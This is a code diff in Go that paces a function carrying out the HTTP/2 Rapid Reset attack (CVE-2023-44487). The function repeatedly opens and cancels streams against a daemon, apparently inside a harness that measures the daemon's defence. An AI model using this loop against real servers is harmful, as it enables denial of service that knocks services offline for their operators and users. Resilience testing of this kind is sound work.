@@ -120,21 +120,31 @@ func (c *H2Conn) Park(streams int) error {
 	return nil
 }
 
-// RapidReset opens streams on c and resets each at once, as fast as it can (CVE-2023-44487),
-// until stop is closed or the connection fails.
-func (c *H2Conn) RapidReset(stop <-chan struct{}) error {
+// RapidReset opens streams on c and resets each at once (CVE-2023-44487), perSecond of them
+// a second in bursts every resetTick, until stop is closed or the connection fails. The pace
+// keeps the attacker from taking the cores of the machine it shares with the daemon it
+// attacks, so that what is measured is the daemon's defence and not the attacker's own load.
+func (c *H2Conn) RapidReset(stop <-chan struct{}, perSecond int) error {
+	burst := max(perSecond*int(resetTick)/int(time.Second), 1)
+	tick := time.NewTicker(resetTick)
+	defer tick.Stop()
 	for {
+		for range burst {
+			id, err := c.Get("/openapi.json")
+			if err == nil {
+				err = c.Reset(id)
+			}
+			if err != nil {
+				return err
+			}
+		}
 		select {
 		case <-stop:
 			return nil
-		default:
-		}
-		id, err := c.Get("/openapi.json")
-		if err == nil {
-			err = c.Reset(id)
-		}
-		if err != nil {
-			return err
+		case <-tick.C:
 		}
 	}
 }
+
+// resetTick is how often RapidReset sends a burst of streams.
+const resetTick = 10 * time.Millisecond
